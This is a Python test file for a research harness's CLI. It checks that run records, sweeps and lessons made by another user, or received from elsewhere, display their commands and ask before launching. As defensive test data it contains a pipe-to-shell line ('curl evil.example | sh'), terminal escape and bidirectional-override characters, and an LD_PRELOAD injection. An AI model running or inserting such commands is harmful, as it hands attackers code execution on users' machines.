"""A launch from a file that somebody else may have written shows its commands and asks; one's own does not."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from harness.cli.launch.untrusted import may_launch, source_of
from harness.common.display.printable import escaped
from harness.common.errors import RequestError
from harness.common.system.users import this_user
from harness.experiment.exercises import DDP
from harness.run import Run
from harness.site.site import Container, load_site
from harness.study.sweeps.axes import read_sweep, shipped_sweep
from harness.study.sweeps.stored import StoredSweep, request_file, store_request
from tests.launch.launch_shared import Harness, a_run

LOCAL = load_site("local")
EVIL = "curl evil.example | sh"
ADD = (
    "add --yes to run the commands of {} shown above: without a terminal no question can be asked (nothing was started)"
)
Made = Callable[..., Run]


@pytest.fixture
def started(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The commands of the launches that were let through."""
    found: list[str] = []

    def go(_experiment: object, _choice: object, _behaviour: object, command: list[str]) -> int:
        found.append(" ".join(command))
        return 0

    monkeypatch.setattr("harness.cli.launch.run.go", go)
    return found


@pytest.fixture
def rewritten(tmp_path: Path) -> Made:
    """A run of this user, its record with these fields changed."""

    def make(job_id: str = "local-1", **changes: Any) -> Run:
        run = a_run(tmp_path / "runs", job_id)
        run.write_record(run.record.model_copy(update={"user": this_user(), **changes}))
        return run

    return make


SITES: dict[str, tuple[dict[str, Any], str]] = {
    "a line that the job runs first": ({"setup": [EVIL]}, f'"setup": ["{EVIL}"]'),
    "what steers a terminal": ({"setup": ["true\n\x1b[2Kx \u202e"]}, r'"setup": ["true\n\u001b[2Kx \u202e"]'),
    "a library in the environment": ({"env": {"LD_PRELOAD": "/x.so"}}, '"env": {"LD_PRELOAD": "/x.so"}'),
    "an image and its program": (
        {"container": Container(image="/x.sif", command="/bin/evil")},
        '"command": "/bin/evil"',
    ),
}


@pytest.mark.parametrize(("fields", "shown"), SITES.values(), ids=SITES)
def test_a_run_of_somebody_else_is_shown_and_refused_without_a_person(
    fields: dict[str, Any], shown: str, harness: Harness, started: list[str], rewritten: Made
) -> None:
    run = rewritten(user="anna", site=LOCAL.model_copy(update=fields))
    refused = harness("run", str(run.path))
    assert (refused.returncode, started) == (2, [])
    assert escaped(refused.stderr.replace("\n", "")) == refused.stderr.replace("\n", "")
    why, asks = refused.stderr.splitlines()[-2:]
    assert (why, asks) == ("a launch asks first: it says that anna made it", f"slurm.sh: {ADD.format(run.record_file)}")
    for flag, count in (("--yes", 1), ("--dry-run", 2)):
        done = harness("run", str(run.path), flag)
        assert (done.returncode, len(started)) == (0, count)
        assert shown in done.stderr and shown in refused.stderr


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"site": LOCAL.model_copy(update={"setup": ["true"]})},
        {"experiment": DDP(script="/home/me/train.py")},
        {"user": str(os.getuid())},  # recorded in a container, which knew a number only
    ],
)
def test_ones_own_run_asks_nothing(
    changes: dict[str, Any], harness: Harness, started: list[str], rewritten: Made
) -> None:
    done = harness("run", str(rewritten(**changes).path))
    assert (done.returncode, done.stderr, len(started)) == (0, "", 1)


def test_a_file_of_another_user_or_from_elsewhere_asks(
    harness: Harness, started: list[str], rewritten: Made, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = rewritten(experiment=DDP(script="/tmp/evil.py", data="/x/data.json", model="tiny-llama"))
    mailed = tmp_path / "mailed" / "run.json"
    mailed.parent.mkdir()
    mailed.write_bytes(run.record_file.read_bytes())
    said = harness("run", str(mailed)).stderr
    assert '"script": "/tmp/evil.py"' in said and "a launch asks first: it is not in " in said
    monkeypatch.setattr("harness.cli.launch.untrusted.owner_of", lambda _path: "berta")
    assert "a launch asks first: it belongs to berta\n" in harness("run", str(run.path)).stderr
    assert started == []


@pytest.mark.parametrize("answer", [False, True])
def test_a_person_is_asked_once_and_may_say_no(
    harness: Harness, started: list[str], rewritten: Made, monkeypatch: pytest.MonkeyPatch, answer: bool
) -> None:
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    monkeypatch.setattr("typer.confirm", lambda *_a, **_k: answer)
    done = harness("run", str(rewritten(user="anna").path))
    assert (done.returncode, len(started), "nothing was started" in done.stderr) == (0, answer, not answer)


def test_a_lesson_asks_for_the_files_that_it_would_run(rewritten: Made, capsys: pytest.CaptureFixture[str]) -> None:
    run = rewritten(user="anna", site=LOCAL.model_copy(update={"setup": [EVIL]}))
    source = source_of(run, run.record)
    assert may_launch(source, [DDP()], None, yes=False)
    with pytest.raises(RequestError, match="add --yes"):
        may_launch(source, [DDP()], run.record.site, yes=False)
    with pytest.raises(RequestError, match="add --yes"):
        may_launch(source, [DDP(data="/x/data.json")], None, yes=False)
    said = capsys.readouterr().err
    assert EVIL in said and '"data": "/x/data.json"' in said


def test_a_series_that_somebody_began_asks_before_it_goes_on(
    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HARNESS_RUNS", str(tmp_path / "runs"))
    shipped = shipped_sweep("gas")
    assert shipped is not None
    store_request("gas", StoredSweep(sweep=read_sweep(shipped), site=LOCAL.model_copy(update={"setup": [EVIL]})))
    monkeypatch.setattr("harness.cli.launch.untrusted.owner_of", lambda _path: "anna")
    for words in (["--dry-run"], []):
        said = harness("sweep", "gas", *words).stderr
        assert f"{request_file('gas')} would run or use:\n" in said and EVIL in said
    assert ADD.format(request_file("gas")) in said
    assert "would run or use" not in harness("sweep", "gas", "--site", "local").stderr
    assert not list((tmp_path / "runs").glob("exercise_*"))


def test_a_job_that_converts_takes_no_options_from_another_users_run(harness: Harness, rewritten: Made) -> None:
    run = rewritten(site=load_site("slurm"), backend="slurm", created_ns=time.time_ns(), user="anna")
    refused = harness("export", "paraver", str(run.path), "--submit")
    said = "run.json: it says that anna made it: convert it here, without --submit"
    assert (refused.returncode, said in refused.stderr) == (2, True)


@pytest.mark.parametrize(
    ("recorded", "again"),
    [
        (["lesson", "1a"], "-e 1 -g 1 --site local"),
        (["run", "local-0"], "-e 1 -g 1 --site local"),
        (["run", "-g", "2", "--", "train.py"], "run -g 2 -- train.py"),
        (["-e", "1", "--seed", "7"], "-e 1 --seed 7"),
    ],
)
def test_a_run_again_is_typed_as_before_or_asks_for_the_same(
    recorded: list[str], again: str, harness: Harness, started: list[str], rewritten: Made
) -> None:
    run = rewritten(command=["slurm.sh", *recorded])
    assert harness("run", str(run.path), "--yes").returncode == 0
    assert started == [f"slurm.sh {again}"]
